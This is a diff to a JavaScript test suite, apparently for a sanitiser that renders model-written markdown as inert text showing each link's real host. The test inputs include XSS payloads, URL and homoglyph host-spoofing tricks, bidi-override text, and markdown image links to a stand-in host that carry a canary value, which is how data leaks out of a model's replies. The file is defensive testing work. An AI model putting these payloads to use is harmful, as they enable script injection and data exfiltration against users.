@@ -57,14 +57,60 @@ test("links and pictures are words with their host, never the path", () => {
   equal(parseInline("![p](https://evil.example/p.png)"), [{ kind: "link", text: "p", host: "evil.example" }]);
   equal(parseInline("[x](javascript:alert)")[0], { kind: "link", text: "x", host: "no web address" });
   equal(parseInline("[x](/track/)")[0], { kind: "link", text: "x", host: "this site" });
-  equal(parseInline("[x](//evil.example)")[0], { kind: "link", text: "x", host: "no web address" });
+  equal(parseInline("[x](//evil.example)")[0], { kind: "link", text: "x", host: "evil.example" });
+});
+
+test("the host that is shown is the one a browser would go to", () => {
+  const host = (/** @type {string} */ address) => /** @type {any} */ (parseInline(`[x](${address})`)[0]).host;
+
+  equal(host("https://good.example@evil.example/x"), "evil.example");
+  equal(host("https://good.example:pw@evil.example:8443"), "evil.example:8443");
+  equal(host("/\\evil.example/x"), "evil.example");
+  equal(host("\\\\evil.example"), "evil.example");
+  equal(host("https:\\\\evil.example"), "evil.example");
+  equal(host("https:evil.example"), "evil.example");
+  equal(host("HTTPS://EVIL.example"), "evil.example");
+  equal(host("https://gооd.example/"), "xn--gd-fmca.example");
+  equal(host("https://good.example.evil.example/?https://good.example"), "good.example.evil.example");
+  equal(host("https://2130706433/"), "127.0.0.1");
+  equal(host("data:text/html,<script>alert`1`</script>"), "no web address");
+  equal(host("vbscript:x"), "no web address");
+  equal(host("JaVaScRiPt:alert"), "no web address");
+  equal(host("blob:https://evil.example/1"), "no web address");
+  equal(host("chat/../x"), "this site");
+});
+
+test("nothing of a picture or a reference becomes more than words", () => {
+  const hostile = [
+    "![p](https://evil.example/p.png?d=CANARY)",
+    "![p][r]\n\n[r]: https://evil.example/p.png?d=CANARY",
+    "[![p](https://evil.example/p.png)](https://evil.example/)",
+    "<img src=https://evil.example/p.png>",
+    "<https://evil.example/?d=CANARY>",
+    "https://evil.example/?d=CANARY",
+    '<a href="javascript:alert(1)" style="background:url(//evil.example)">x</a>',
+    "<svg><image href=//evil.example/p.png /></svg> <iframe srcdoc=x></iframe> <style>@import '//evil.example'</style>",
+  ];
+  const box = document.createElement("div");
+  box.append(...hostile.map(renderRichText));
+
+  equal([...new Set([...box.querySelectorAll("*")].map((node) => node.localName))].sort(), ["bdi", "p", "span"]);
+  equal([...box.querySelectorAll("*")].flatMap((node) => node.getAttributeNames()).filter((name) => name !== "class"), []);
+});
+
+test("text that runs backwards cannot turn a host round", () => {
+  const box = document.createElement("div");
+  box.append(renderRichText("[\u202eelpmaxe.doog\u2066](https://evil.example/)"));
+
+  equal(box.textContent, "elpmaxe.doog\u2066 (evil.example)");
+  equal([...box.querySelectorAll("bdi")].map((node) => node.textContent), ["elpmaxe.doog\u2066", "evil.example"]);
 });
 
 test("markup in a model's text stays text", () => {
   const box = document.createElement("div");
   box.append(renderRichText('<img src=x onerror="alert(1)"> **<script>** [<b>](https://evil.example/x)\n\n- <a href=x>y</a>'));
 
-  equal([...box.querySelectorAll("*")].map((node) => node.localName), ["p", "strong", "span", "ul", "li"]);
+  equal([...box.querySelectorAll("*")].map((node) => node.localName), ["p", "strong", "span", "bdi", "bdi", "ul", "li"]);
   equal(box.querySelector("strong")?.textContent, "<script>");
   equal(box.querySelector("span")?.textContent, "<b> (evil.example)");
 });
